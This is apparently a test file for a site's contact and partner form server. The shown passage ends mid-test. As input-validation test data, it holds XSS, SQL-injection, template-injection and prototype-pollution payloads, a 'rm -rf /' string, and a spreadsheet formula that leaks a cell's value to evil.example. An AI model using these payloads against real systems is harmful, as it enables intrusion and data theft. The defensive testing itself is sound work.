/**
 * The receiver over HTTP: the built site's own server (src/server/http/serve.ts, Astro's handler and
 * origin check included) on a free loopback port, on a real database: the same table of requests
 * against a SQLite file in a temporary folder and against PostgreSQL (DATABASE_URL; skipped,
 * saying why, when the test run has no PostgreSQL). The start-up checks are SQLite's.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { locales, t } from '../../src/i18n';
import { openStores } from '../../src/server/store/database';
import { openSqliteStore } from '../../src/server/store/sqlite/sqlite-store';
import { details } from '../../src/data/company';
import { heldReasons } from '../helpers/held';
import type { StoredSubmission } from '../../src/server/store/store';
import { freshDatabase } from '../helpers/postgres';
import {
  asForm,
  contactBody,
  partnerBody,
  postForm,
  postJson,
  startServer,
  tempDir,
  type RunningServer,
} from '../helpers/server';

let dir: string;
let server: RunningServer;
/** The database the server of the current table writes to (undefined: its SQLite file). */
let databaseUrl: string | undefined;

/** Reads the server's database through a connection of its own, as the staff command does. */
async function rows(options: { bots?: boolean; inboxOnly?: boolean } = {}): Promise<StoredSubmission[]> {
  const stores = openStores({ dbPath: server.dbPath, databaseUrl, poolMax: 1 }, { create: false });
  try {
    await stores.ready;
    const out: StoredSubmission[] = [];
    for await (const row of stores.submissions.export({ bots: options.bots === true, inboxOnly: options.inboxOnly === true }))
      out.push(row);
    return out;
  } finally {
    await stores.close();
  }
}

/** The leads held for review, with their reasons. */
async function heldRows() {
  const stores = openStores({ dbPath: server.dbPath, databaseUrl, poolMax: 1 }, { create: false });
  try {
    await stores.ready;
    return await stores.held.list('held', 1000);
  } finally {
    await stores.close();
  }
}

async function findById(id: string, options: { bots?: boolean } = {}) {
  return (await rows(options)).find((row) => row.id === id);
}

beforeAll(() => {
  dir = tempDir('globaq-http-');
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

const postgresUrl = inject('postgresUrl');
const unavailable = inject('postgresUnavailable');

for (const kind of ['SQLite', 'PostgreSQL'] as const) {
  const skip = kind === 'PostgreSQL' ? unavailable : '';
  describe.skipIf(skip !== '')(`on ${kind}${skip ? ` (skipped: ${skip})` : ''}`, () => {
    beforeAll(async () => {
      databaseUrl = kind === 'PostgreSQL' ? await freshDatabase(postgresUrl) : undefined;
      server = await startServer({ dbPath: path.join(dir, `${kind}.db`), env: databaseUrl ? { DATABASE_URL: databaseUrl } : {} });
    });

    afterAll(async () => {
      await server?.stop();
    });

    describe('valid submissions', () => {
      test('a contact message as JSON: 201 with the id, stored field for field beside the received time', async () => {
        const body = contactBody();
        const before = Date.now();
        const response = await postJson(server.baseUrl, '/api/contact', body, { Origin: server.origin });
        expect(response.status).toBe(201);
        expect(response.headers.get('content-type')).toMatch(/^application\/json/);
        expect(response.headers.get('cache-control')).toBe('no-store');
        const { id } = (await response.json()) as { id: string };
        const row = await findById(id);
        expect(row?.form).toBe('contact');
        expect(row?.language).toBe('en');
        expect(row?.fields).toEqual(body);
        expect(Date.parse(row?.receivedAt ?? '')).toBeGreaterThanOrEqual(before - 1000);
      });

      test('a partner application as JSON: stored field for field, lists and numbers included', async () => {
        const body = partnerBody();
        const response = await postJson(server.baseUrl, '/api/partner', body);
        expect(response.status).toBe(201);
        const { id } = (await response.json()) as { id: string };
        expect((await findById(id))?.fields).toEqual(body);
      });

      test('counts as text (as the original form sends them): whole numbers in Western or Arabic-Indic digits, spaces around, stored as numbers', async () => {
        const body = partnerBody({ yearsInBusiness: ' 7 ', numberOfEmployees: '١٢', numberOfSites: '۳' });
        const response = await postJson(server.baseUrl, '/api/partner', body);
        expect(response.status).toBe(201);
        const { id } = (await response.json()) as { id: string };
        const fields = (await findById(id))?.fields as Record<string, unknown>;
        expect(fields).toMatchObject({ yearsInBusiness: 7, numberOfEmployees: 12, numberOfSites: 3 });
        // An optional count left as empty text is stored as no answer.
        const empty = await postJson(server.baseUrl, '/api/partner', partnerBody({ numberOfEmployees: '' }));
        expect(empty.status).toBe(201);
        const emptyId = ((await empty.json()) as { id: string }).id;
        expect(((await findById(emptyId))?.fields as Record<string, unknown>).numberOfEmployees).toBeNull();
      });

      test('text that looks like code is stored verbatim, never run', async () => {
        const hostile = {
          firstName: '<script>alert(document.cookie)</script>',
          lastName: 'O\'Brien"; DROP TABLE submissions; --',
          company: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
          city: '{{constructor.constructor("alert(1)")()}}',
          message:
            "1' OR '1'='1'; DELETE FROM submissions WHERE '1'='1 <img src=x onerror=alert(1)> ${7*7} `rm -rf /` \u202Eevil",
        };
        const response = await postJson(server.baseUrl, '/api/contact', contactBody(hostile));
        expect(response.status).toBe(201);
        const { id } = (await response.json()) as { id: string };
        // Stored as sent, but for the right-to-left override, which is taken out on receipt.
        expect((await findById(id))?.fields).toEqual(contactBody({ ...hostile, message: hostile.message.replace('\u202E', '') }));
        // The tables are still there and whole.
        expect((await rows()).length).toBeGreaterThanOrEqual(1);
      });

      test('a form post with JavaScript off: 303 to /ThanksPage, stored with the server’s time', async () => {
        const form = new URLSearchParams({
          firstName: 'Layla',
          lastName: 'Hassan',
          email: 'layla@example.com',
          country: 'Bahrain',
          city: 'Manama',
          company: '',
          message: 'Hello',
          homepage: '',
        });
        const response = await postForm(server.baseUrl, '/api/contact', form);
        expect(response.status).toBe(303);
        expect(response.headers.get('location')).toBe('/ThanksPage');
        const row = (await rows()).find((r) => r.fields['firstName'] === 'Layla');
        expect(row?.fields).toMatchObject({
          firstName: 'Layla',
          lastName: 'Hassan',
          email: 'layla@example.com',
          country: 'Bahrain',
          city: 'Manama',
          company: '',
          message: 'Hello',
        });
        expect(row?.fields['submissionDate']).toBe(row?.receivedAt);
        expect(row?.fields).not.toHaveProperty('homepage');
        expect(row?.language).toBe('en');
      });

      test('a partner form post: repeated keys become the lists, numbers become numbers', async () => {
        const response = await postForm(server.baseUrl, '/api/partner', asForm(partnerBody({ name: 'Form Poster' })));
        expect(response.status).toBe(303);
        const row = (await rows()).find((r) => r.fields['name'] === 'Form Poster');
        expect(row?.fields).toEqual(partnerBody({ name: 'Form Poster' }));
      });

      test('the longest valid partner application, in Arabic and url-encoded, fits the body limit', async () => {
        const long = 'ع'.repeat(5000);
        const body = partnerBody({
          name: 'أحمد',
          interestReason: long,
          salesMarketingCapabilities: long,
          demandAnticipation: long,
          marketPotential: long,
          topThreeReasons: long,
          localCompetition: long,
          competitorEncounters: long,
          competitorAnalysis: long,
          futureClassroomPlans: long,
          uploadedFiles: long,
        });
        const form = asForm(body);
        expect(String(form).length).toBeGreaterThan(300_000);
        const response = await postForm(server.baseUrl, '/api/partner', form);
        expect(response.status).toBe(303);
        expect((await rows()).some((r) => r.fields['name'] === 'أحمد' && r.fields['marketPotential'] === long)).toBe(true);
      });
    });

    describe('the language a form was sent in (?lang=)', () => {
      test('JSON from an Arabic page: 201, stored in Arabic with the same field names', async () => {
        const body = contactBody({ firstName: 'سارة', message: 'نحتاج تقييم Schedule Q' });
        const response = await postJson(server.baseUrl, '/api/contact?lang=ar', body, { Origin: server.origin });
        expect(response.status).toBe(201);
        const { id } = (await response.json()) as { id: string };
        const row = await findById(id);
        expect(row?.language).toBe('ar');
        expect(row?.fields).toEqual(body);
        const english = await postJson(server.baseUrl, '/api/partner?lang=en', partnerBody());
        expect(english.status).toBe(201);
        expect((await findById(((await english.json()) as { id: string }).id))?.language).toBe('en');
      });

      test('a form post from an Arabic page (JavaScript off): 303 to /ar/ThanksPage, stored in Arabic', async () => {
        const contact = await postForm(
          server.baseUrl,
          '/api/contact?lang=ar',
          asForm(contactBody({ firstName: 'ليلى', lastName: 'lang-form' })),
        );
        expect(contact.status).toBe(303);
        expect(contact.headers.get('location')).toBe('/ar/ThanksPage');
        expect((await rows()).find((row) => row.fields['lastName'] === 'lang-form')?.language).toBe('ar');
        const partner = await postForm(server.baseUrl, '/api/partner?lang=ar', asForm(partnerBody({ name: 'lang-partner' })));
        expect(partner.status).toBe(303);
        expect(partner.headers.get('location')).toBe('/ar/ThanksPage');
        expect((await rows()).find((row) => row.fields['name'] === 'lang-partner')?.language).toBe('ar');
        const english = await postForm(server.baseUrl, '/api/partner', asForm(partnerBody({ name: 'lang-default' })));
        expect(english.headers.get('location')).toBe('/ThanksPage');
      });

      test('an unknown, empty or repeated lang is a bad request: 400 unknownLanguage (a page for a form post), nothing stored', async () => {
        const leadsBefore = (await rows()).length;
        const botsBefore = (await rows({ bots: true })).length;
        for (const query of ['?lang=xx', '?lang=fr', '?lang=AR', '?lang=', '?lang', '?lang=ar&lang=ar', '?lang=en&lang=ar']) {
          const json = await postJson(server.baseUrl, `/api/contact${query}`, contactBody());
          expect(json.status, query).toBe(400);
          expect(await json.json(), query).toEqual({ error: 'unknownLanguage' });
          const page = await postForm(server.baseUrl, `/api/partner${query}`, asForm(partnerBody()));
          expect(page.status, query).toBe(400);
          expect(page.headers.get('content-type'), query).toMatch(/^text\/html/);
          expect(await page.text(), query).toContain('could not be read, so it was not sent');
        }
        // A bot's post with a bad lang is refused the same way, and kept nowhere.
        expect((await postJson(server.baseUrl, '/api/contact?lang=xx', { ...contactBody(), homepage: 'x' })).status).toBe(400);
        expect((await rows()).length).toBe(leadsBefore);
        expect((await rows({ bots: true })).length).toBe(botsBefore);
      });

      test('a refused form post from an Arabic page gets the page in Arabic, right to left, back to the Arabic form', async () => {
        const contact = await postForm(
          server.baseUrl,
          '/api/contact?lang=ar',
          new URLSearchParams({ firstName: '', lastName: 'x', email: 'not-an-address' }),
        );
        expect(contact.status).toBe(400);
        const html = await contact.text();
        expect(html).toMatch(/<html lang="ar" dir="rtl"/);
        expect(html).toContain('يرجى مراجعة النموذج');
        expect(html).toContain('>الاسم الأول</strong>: هذا الحقل مطلوب.');
        expect(html).toContain('>البريد الإلكتروني</strong>: أدخل عنوان بريد إلكتروني صحيحًا');
        expect(html).toMatch(/<a class="button button--primary" href="\/ar\/ContactUs"[^>]*>العودة إلى نموذج التواصل<\/a>/);
        // The Arabic header and footer around it.
        expect(html).toContain(`>${t('skip.toMain', {}, locales.ar)}</a>`);
        expect(html).toContain(`>${t('footer.quickLinks', {}, locales.ar)}</h2>`);
        expect(html).toContain('<meta name="robots" content="noindex">');
        // Kept out of search engines: no alternate addresses (the header's language switch, to the
        // English form, is a link for the visitor).
        expect(html).not.toMatch(/<link rel="alternate"/);
        expect(html).toMatch(/<a class="site-header__language" href="\/ContactUs"/);
        expect(html).not.toContain('Please check your form');

        const partner = await postForm(server.baseUrl, '/api/partner?lang=ar', asForm(partnerBody({ yearsInBusiness: 'seven' })));
        expect(partner.status).toBe(400);
        const partnerHtml = await partner.text();
        expect(partnerHtml).toMatch(/<html lang="ar" dir="rtl"/);
        expect(partnerHtml).toMatch(/<a class="button button--primary" href="\/ar\/Partner"[^>]*>العودة إلى طلب الشراكة<\/a>/);

        // The English page stays English.
        const english = await postForm(server.baseUrl, '/api/contact', new URLSearchParams({ firstName: '' }));
        const englishHtml = await english.text();
        expect(englishHtml).toMatch(/<html lang="en" dir="ltr"/);
        expect(englishHtml).toMatch(/<a class="button button--primary" href="\/ContactUs"[^>]*>Back to the contact form<\/a>/);
      });

      test('the page is only the receiver’s: a direct visit finds nothing, in either language', async () => {
        for (const [route, title] of [
          ['/SubmissionProblem', 'Please check your form'],
          ['/ar/SubmissionProblem', 'يرجى مراجعة النموذج'],
        ] as const) {
          const response = await fetch(`${server.baseUrl}${route}`);
          expect(response.status, route).toBe(404);
          expect(await response.text(), route).not.toContain(title);
        }
      });

      test("a static host's rule files are not pages of this server: /_headers and /_redirects find nothing", async () => {
        for (const route of ['/_headers', '/_redirects']) {
          const response = await fetch(`${server.baseUrl}${route}`);
          expect(response.status, route).toBe(404);
          expect(await response.text(), route).not.toMatch(/static hosts/);
        }
      });
    });

    describe('the honeypot', () => {
      test('a bot is answered like anyone, and its submission held for review (out of the inbox, never mailed), without the trap field', async () => {
        const inboxBefore = (await rows({ inboxOnly: true })).length;
        const json = await postJson(server.baseUrl, '/api/contact', {
          ...contactBody({ firstName: 'Spambot' }),
          homepage: 'http://cheap-pills.example',
        });
        expect(json.status).toBe(201);
        const { id } = (await json.json()) as { id: string };
        expect(id).toMatch(/^[0-9a-f-]{36}$/);
        const form = await postForm(
          server.baseUrl,
          '/api/partner',
          asForm({ ...partnerBody({ name: 'Formbot' }), homepage: 'x' }),
        );
        expect(form.status).toBe(303);
        expect((await rows({ inboxOnly: true })).length).toBe(inboxBefore);
        const held = await heldRows();
        expect(held.find((row) => row.id === id)).toMatchObject({ reason: 'honeypot', fields: { firstName: 'Spambot' } });
        expect(held.some((row) => row.fields['name'] === 'Formbot' && row.reason === 'honeypot')).toBe(true);
        expect(held.every((row) => !('homepage' in row.fields) && !('altcha' in row.fields))).toBe(true);
      });
    });

    type BadRequest = {
      readonly name: string;
      readonly route?: '/api/contact' | '/api/partner';
      readonly method?: string;
      readonly contentType?: string | null;
      readonly origin?: string | null;
      readonly body?: string | Uint8Array | ReadableStream<Uint8Array> | null;
      readonly status: number;
      /** Fields the 400 answer must name. */
      readonly fields?: readonly string[];
      /** The answer is the "what to fix" page (a form post). */
      readonly page?: boolean;
    };

    const json = (value: unknown) => JSON.stringify(value);
    const form = (value: Record<string, string>) => String(new URLSearchParams(value));
    const MB = 'x'.repeat(1024 * 1024);
    const SELF = '(own origin)';

    const BAD_REQUESTS: readonly BadRequest[] = [
      // Malformed JSON and bodies that are not an object.
      { name: 'unterminated object', body: '{"firstName": "Omar"', status: 400 },
      { name: 'trailing comma', body: '{"firstName": "Omar",}', status: 400 },
      { name: 'single quotes', body: "{'firstName': 'Omar'}", status: 400 },
      { name: 'the word undefined', body: 'undefined', status: 400 },
      { name: 'NaN', body: 'NaN', status: 400 },
      { name: 'a bare string', body: '"hello"', status: 400 },
      { name: 'an array', body: '[]', status: 400 },
      { name: 'null', body: 'null', status: 400 },
      { name: 'a number', body: '42', status: 400 },
      { name: 'the submission wrapped in an array', body: json([contactBody()]), status: 400 },
      { name: '50,000 nested arrays', body: `${'['.repeat(50_000)}${']'.repeat(50_000)}`, status: 400 },
      {
        name: 'invalid UTF-8 bytes',
        body: new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
        status: 400,
      },
      { name: 'empty JSON body', body: '', status: 400 },
      { name: 'whitespace-only JSON body', body: '  \n ', status: 400 },
      { name: 'JSON with a stray NUL after it', body: `${json(contactBody())}\u0000`, status: 400 },
      // Wrong types.
      { name: 'firstName a number', body: json(contactBody({ firstName: 123 })), status: 400, fields: ['firstName'] },
      { name: 'firstName null', body: json(contactBody({ firstName: null })), status: 400, fields: ['firstName'] },
      { name: 'firstName a boolean', body: json(contactBody({ firstName: true })), status: 400, fields: ['firstName'] },
      { name: 'firstName a list', body: json(contactBody({ firstName: ['Omar'] })), status: 400, fields: ['firstName'] },
      { name: 'email an object', body: json(contactBody({ email: {} })), status: 400, fields: ['email'] },
      { name: 'message an operator object', body: json(contactBody({ message: { $gt: '' } })), status: 400, fields: ['message'] },
      {
        name: 'submissionDate a number',
        body: json(contactBody({ submissionDate: 12345 })),
        status: 400,
        fields: ['submissionDate'],
      },
      {
        name: 'submissionDate not a date',
        body: json(contactBody({ submissionDate: 'yesterday' })),
        status: 400,
        fields: ['submissionDate'],
      },
      // A count given as text is read as its digits (see "counts as text" above); anything but a
      // whole number from 0 in Western or Arabic-Indic digits is refused, naming the field.
      ...(['7.5', '-1', '1e3', '0x10', '', '   ', 'seven', '7 8'] as const).map((text): BadRequest => ({
        name: `yearsInBusiness as the text ${JSON.stringify(text)}`,
        route: '/api/partner',
        body: json(partnerBody({ yearsInBusiness: text })),
        status: 400,
        fields: ['yearsInBusiness'],
      })),
      {
        name: 'numberOfEmployees as the text "1.5"',
        route: '/api/partner',
        body: json(partnerBody({ numberOfEmployees: '1.5' })),
        status: 400,
        fields: ['numberOfEmployees'],
      },
      {
        name: 'yearsInBusiness negative',
        route: '/api/partner',
        body: json(partnerBody({ yearsInBusiness: -1 })),
        status: 400,
        fields: ['yearsInBusiness'],
      },
      {
        name: 'yearsInBusiness a fraction',
        route: '/api/partner',
        body: json(partnerBody({ yearsInBusiness: 1.5 })),
        status: 400,
        fields: ['yearsInBusiness'],
      },
      {
        name: 'numberOfSites 1e300',
        route: '/api/partner',
        body: json(partnerBody({ numberOfSites: 1e300 })),
        status: 400,
        fields: ['numberOfSites'],
      },
      {
        name: 'servicesTypes a string',
        route: '/api/partner',
        body: json(partnerBody({ servicesTypes: 'Training Courses' })),
        status: 400,
        fields: ['servicesTypes'],
      },
      {
        name: 'servicesTypes not offered',
        route: '/api/partner',
        body: json(partnerBody({ servicesTypes: ['Hacking Services'] })),
        status: 400,
        fields: ['servicesTypes'],
      },
      {
        name: 'servicesTypes twice the same',
        route: '/api/partner',
        body: json(partnerBody({ servicesTypes: ['Training Courses', 'Training Courses'] })),
        status: 400,
        fields: ['servicesTypes'],
      },
      {
        name: 'country not in the list',
        route: '/api/partner',
        body: json(partnerBody({ country: 'Atlantis' })),
        status: 400,
        fields: ['country'],
      },
      {
        name: 'country with SQL',
        route: '/api/partner',
        body: json(partnerBody({ country: "Saudi Arabia' OR '1'='1" })),
        status: 400,
        fields: ['country'],
      },
      {
        name: 'formOfOwnership not offered',
        route: '/api/partner',
        body: json(partnerBody({ formOfOwnership: 'Pirate ship' })),
        status: 400,
        fields: ['formOfOwnership'],
      },
      {
        name: 'classroomAvailable Maybe',
        route: '/api/partner',
        body: json(partnerBody({ classroomAvailable: 'Maybe' })),
        status: 400,
        fields: ['classroomAvailable'],
      },
      // Required fields missing or empty.
      { name: 'an empty object', body: '{}', status: 400, fields: ['firstName', 'lastName', 'email'] },
      { name: 'email left out', body: json({ ...contactBody(), email: undefined }), status: 400, fields: ['email'] },
      { name: 'firstName only spaces', body: json(contactBody({ firstName: '   ' })), status: 400, fields: ['firstName'] },
      {
        name: 'partner: an empty object',
        route: '/api/partner',
        body: '{}',
        status: 400,
        fields: ['name', 'organization', 'email', 'yearsInBusiness'],
      },
      {
        name: 'partner: yearsInBusiness null',
        route: '/api/partner',
        body: json(partnerBody({ yearsInBusiness: null })),
        status: 400,
        fields: ['yearsInBusiness'],
      },
      // Values the form's rules refuse.
      { name: 'email without @', body: json(contactBody({ email: 'not-an-email' })), status: 400, fields: ['email'] },
      {
        name: 'email with SQL',
        body: json(contactBody({ email: "x@example.com'; DROP TABLE submissions;--" })),
        status: 400,
        fields: ['email'],
      },
      {
        name: 'email with a script',
        body: json(contactBody({ email: '<script>alert(1)</script>@example.com' })),
        status: 400,
        fields: ['email'],
      },
      {
        name: 'website javascript:',
        route: '/api/partner',
        body: json(partnerBody({ companyWebsite: 'javascript:alert(1)' })),
        status: 400,
        fields: ['companyWebsite'],
      },
      {
        name: 'phone in words',
        route: '/api/partner',
        body: json(partnerBody({ phoneNumber: 'call me maybe' })),
        status: 400,
        fields: ['phoneNumber'],
      },
      // Too long.
      {
        name: 'firstName of 101 characters',
        body: json(contactBody({ firstName: 'a'.repeat(101) })),
        status: 400,
        fields: ['firstName'],
      },
      {
        name: 'message of 5,001 characters',
        body: json(contactBody({ message: 'a'.repeat(5001) })),
        status: 400,
        fields: ['message'],
      },
      { name: 'a 1 MB message', body: json(contactBody({ message: MB })), status: 413 },
      { name: 'a 1 MB partner answer', route: '/api/partner', body: json(partnerBody({ marketPotential: MB })), status: 413 },
      {
        name: 'a 1 MB form field',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: form({ firstName: MB }),
        status: 413,
        page: true,
      },
      {
        name: '10 MB sent in chunks, without Content-Length',
        body: new ReadableStream<Uint8Array>({
          start(controller) {
            const chunk = new TextEncoder().encode(`"${'y'.repeat(64 * 1024 - 2)}"`);
            for (let i = 0; i < 160; i++) controller.enqueue(chunk);
            controller.close();
          },
        }),
        status: 413,
      },
      // Unknown fields and nested objects.
      { name: 'an unknown field', body: json(contactBody({ admin: true })), status: 400, fields: ['admin'] },
      {
        name: '__proto__',
        body: `{${json(contactBody()).slice(1, -1)},"__proto__":{"isAdmin":true}}`,
        status: 400,
        fields: ['__proto__'],
      },
      {
        name: 'constructor.prototype',
        body: json(contactBody({ constructor: { prototype: { isAdmin: true } } })),
        status: 400,
        fields: ['constructor'],
      },
      {
        name: 'partner: an id of its own',
        route: '/api/partner',
        body: json(partnerBody({ id: 1 })),
        status: 400,
        fields: ['id'],
      },
      {
        name: 'firstName an object',
        body: json(contactBody({ firstName: { first: 'Omar' } })),
        status: 400,
        fields: ['firstName'],
      },
      {
        name: 'the fields nested one level down',
        body: json({ contact: contactBody() }),
        status: 400,
        fields: ['contact', 'firstName'],
      },
      // Wrong content types.
      { name: 'text/plain', contentType: 'text/plain', origin: SELF, body: json(contactBody()), status: 415 },
      {
        name: 'text/plain from no origin (Astro’s check)',
        contentType: 'text/plain',
        origin: null,
        body: json(contactBody()),
        status: 403,
      },
      {
        name: 'multipart/form-data',
        contentType: 'multipart/form-data; boundary=x',
        origin: SELF,
        body: '--x\r\nContent-Disposition: form-data; name="firstName"\r\n\r\nOmar\r\n--x--\r\n',
        status: 415,
      },
      { name: 'application/xml', contentType: 'application/xml', body: '<firstName>Omar</firstName>', status: 415 },
      { name: 'text/html', contentType: 'text/html', body: '<p>hi</p>', status: 415 },
      { name: 'application/jsonx', contentType: 'application/jsonx', body: json(contactBody()), status: 415 },
      { name: 'JSON in latin1', contentType: 'application/json; charset=iso-8859-1', body: json(contactBody()), status: 415 },
      { name: 'no content type, own origin', contentType: null, origin: SELF, body: json(contactBody()), status: 415 },
      {
        name: 'no content type, no origin (Astro’s check)',
        contentType: null,
        origin: null,
        body: json(contactBody()),
        status: 403,
      },
      { name: 'no body, no content type', contentType: null, origin: SELF, body: null, status: 415 },
      // Other methods.
      { name: 'GET', method: 'GET', contentType: null, body: null, status: 405 },
      { name: 'HEAD', method: 'HEAD', contentType: null, body: null, status: 405 },
      { name: 'PUT', method: 'PUT', body: json(contactBody()), status: 405 },
      { name: 'PATCH', method: 'PATCH', route: '/api/partner', body: json(partnerBody()), status: 405 },
      { name: 'DELETE', method: 'DELETE', contentType: null, origin: SELF, body: null, status: 405 },
      { name: 'DELETE with no Origin (Astro’s check)', method: 'DELETE', contentType: null, body: null, status: 403 },
      // Other origins.
      { name: 'JSON from another site', origin: 'https://evil.example', body: json(contactBody()), status: 403 },
      { name: 'JSON from an opaque origin', origin: 'null', body: json(contactBody()), status: 403 },
      {
        name: 'a form post from another site',
        contentType: 'application/x-www-form-urlencoded',
        origin: 'https://evil.example',
        body: form({ firstName: 'A', lastName: 'B', email: 'a@example.com' }),
        status: 403,
      },
      {
        name: 'a form post without Origin',
        contentType: 'application/x-www-form-urlencoded',
        origin: null,
        body: form({ firstName: 'A', lastName: 'B', email: 'a@example.com' }),
        status: 403,
      },
      // Form posts (JavaScript off) that the schema refuses: a page saying what to fix.
      {
        name: 'form: empty body',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: '',
        status: 400,
        page: true,
        fields: ['First Name', 'Last Name', 'Email'],
      },
      {
        name: 'form: bad e-mail',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: form({ firstName: 'A', lastName: 'B', email: 'nope' }),
        status: 400,
        page: true,
        fields: ['Email'],
      },
      {
        name: 'form: an unknown field with markup in its name',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: form({ firstName: 'A', lastName: 'B', email: 'a@example.com', '<img src=x onerror=alert(1)>': '1' }),
        status: 400,
        page: true,
        fields: ['&lt;img src=x onerror=alert(1)&gt;'],
      },
      {
        name: 'form: broken percent-encoding',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: 'firstName=%E0%A4%A&lastName=%ZZ',
        status: 400,
        page: true,
        fields: ['Email'],
      },
      {
        name: 'form: partner years in words',
        route: '/api/partner',
        contentType: 'application/x-www-form-urlencoded',
        origin: SELF,
        body: String(asForm(partnerBody({ yearsInBusiness: 'seven' }))),
        status: 400,
        page: true,
        fields: ['Years in Business'],
      },
    ];

    describe('bad requests', () => {
      test('the table has at least 50 cases, each named once', () => {
        expect(BAD_REQUESTS.length).toBeGreaterThanOrEqual(50);
        expect(new Set(BAD_REQUESTS.map((c) => c.name)).size).toBe(BAD_REQUESTS.length);
      });

      test('each gets its 4xx, stores nothing, and the server keeps answering', async () => {
        const leadsBefore = (await rows()).length;
        const botsBefore = (await rows({ bots: true })).length;
        const failures: string[] = [];
        for (const c of BAD_REQUESTS) {
          const headers: Record<string, string> = {};
          const contentType = c.contentType === undefined ? 'application/json' : c.contentType;
          if (contentType !== null) headers['Content-Type'] = contentType;
          const origin = c.origin === SELF ? server.origin : c.origin;
          if (origin !== undefined && origin !== null) headers['Origin'] = origin;
          const init: RequestInit & { duplex?: 'half' } = { method: c.method ?? 'POST', headers, redirect: 'manual' };
          if (c.body !== undefined && c.body !== null) init.body = c.body as BodyInit;
          if (c.body instanceof ReadableStream) init.duplex = 'half';
          let response: Response;
          try {
            response = await fetch(`${server.baseUrl}${c.route ?? '/api/contact'}`, init);
          } catch (error) {
            failures.push(`${c.name}: no answer (${String(error)})`);
            continue;
          }
          const text = await response.text();
          if (response.status !== c.status)
            failures.push(`${c.name}: ${response.status} instead of ${c.status}: ${text.slice(0, 200)}`);
          if (c.page) {
            if (!/^text\/html/.test(response.headers.get('content-type') ?? '')) failures.push(`${c.name}: not an HTML page`);
            const back = c.route === '/api/partner' ? '/Partner' : '/ContactUs';
            if (!text.includes(`href="${back}"`)) failures.push(`${c.name}: no link back to ${back}`);
            if (text.includes('<img src=x')) failures.push(`${c.name}: markup from the post was rendered`);
          }
          for (const field of c.fields ?? []) {
            const named = c.page
              ? text.includes(`<strong>${field}</strong>`) || text.includes(`>${field}</strong>`)
              : text.includes(`"field":"${field}"`);
            if (!named) failures.push(`${c.name}: the answer does not name ${field}: ${text.slice(0, 300)}`);
          }
          // Still answering: the site's pages too.
          if (c === BAD_REQUESTS[BAD_REQUESTS.length - 1] || BAD_REQUESTS.indexOf(c) % 10 === 0) {
            const page = await fetch(`${server.baseUrl}/ContactUs`);
            if (page.status !== 200) failures.push(`after ${c.name}: /ContactUs answered ${page.status}`);
          }
        }
        expect(failures).toEqual([]);
        expect((await rows()).length).toBe(leadsBefore);
        expect((await rows({ bots: true })).length).toBe(botsBefore);
        const after = await postJson(server.baseUrl, '/api/contact', contactBody({ firstName: 'After' }));
        expect(after.status).toBe(201);
      });

      test('a JSON refusal names each invalid field with a reason code', async () => {
        const response = await postJson(
          server.baseUrl,
          '/api/partner',
          partnerBody({ name: '', email: 'x', yearsInBusiness: -3, extra: 1 }),
        );
        expect(response.status).toBe(400);
        const body = (await response.json()) as { error: string; issues: { field: string; code: string }[] };
        expect(body.error).toBe('invalidFields');
        expect(body.issues).toEqual(
          expect.arrayContaining([
            { field: 'extra', code: 'unknownField' },
            { field: 'name', code: 'required' },
            { field: 'email', code: 'invalidEmail' },
            { field: 'yearsInBusiness', code: 'invalidNumber' },
          ]),
        );
      });

      test('405 says which methods are allowed; 415 which types; 413 the limit', async () => {
        const get = await fetch(`${server.baseUrl}/api/contact`);
        expect(get.status).toBe(405);
        expect(get.headers.get('allow')).toBe('POST, OPTIONS');
        const xml = await postJson(server.baseUrl, '/api/contact', '<a/>', { 'Content-Type': 'application/xml' });
        expect(xml.status).toBe(415);
        expect(await xml.json()).toEqual({
          error: 'unsupportedMediaType',
          accepted: ['application/json', 'application/x-www-form-urlencoded'],
        });
        const big = await postJson(server.baseUrl, '/api/contact', contactBody({ message: MB }));
        expect(big.status).toBe(413);
        expect(await big.json()).toEqual({ error: 'tooLarge', limit: 512 * 1024 });
      });
    });
  });
}

describe('configured origins, rate limit, start-up checks (SQLite)', () => {
  beforeAll(() => {
    databaseUrl = undefined;
  });

  test('a configured origin may post JSON and gets CORS headers; its preflight is answered', async () => {
    const other = await startServer({
      dbPath: path.join(dir, 'cors.db'),
      env: { SUBMISSIONS_ALLOWED_ORIGINS: 'https://www.example.com.sa' },
    });
    try {
      const preflight = await fetch(`${other.baseUrl}/api/contact`, {
        method: 'OPTIONS',
        headers: {
          Origin: 'https://www.example.com.sa',
          'Access-Control-Request-Method': 'POST',
          'Access-Control-Request-Headers': 'content-type',
        },
      });
      expect(preflight.status).toBe(204);
      expect(preflight.headers.get('access-control-allow-origin')).toBe('https://www.example.com.sa');
      expect(preflight.headers.get('access-control-allow-methods')).toBe('POST');
      const ok = await postJson(other.baseUrl, '/api/contact', contactBody(), { Origin: 'https://www.example.com.sa' });
      expect(ok.status).toBe(201);
      expect(ok.headers.get('access-control-allow-origin')).toBe('https://www.example.com.sa');
      const evil = await fetch(`${other.baseUrl}/api/contact`, {
        method: 'OPTIONS',
        headers: { Origin: 'https://evil.example' },
      });
      expect(evil.status).toBe(403);
      expect(evil.headers.get('access-control-allow-origin')).toBeNull();
    } finally {
      await other.stop();
    }
  });

  test("above the rate a lead is stored and held as \"many posts\", answered as anyone's; past the network's daily budget of leads, 429 with the company's e-mail and phone, nothing stored", async () => {
    const limited = await startServer({
      dbPath: path.join(dir, 'rate.db'),
      env: { SUBMISSIONS_RATE_LIMIT: '3', SUBMISSIONS_RATE_WINDOW: '600', SUBMISSIONS_LEADS_PER_DAY: '5' },
    });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 4; i++) statuses.push((await postJson(limited.baseUrl, '/api/contact', contactBody())).status);
      // The fourth is over the rate (3 per 600 s): stored all the same, held, not mailed.
      expect(statuses).toEqual([201, 201, 201, 201]);
      const form = new URLSearchParams({ ...contactBody(), firstName: 'Noura' } as Record<string, string>);
      const fifth = await postForm(limited.baseUrl, '/api/contact', form);
      expect(fifth.status).toBe(303);
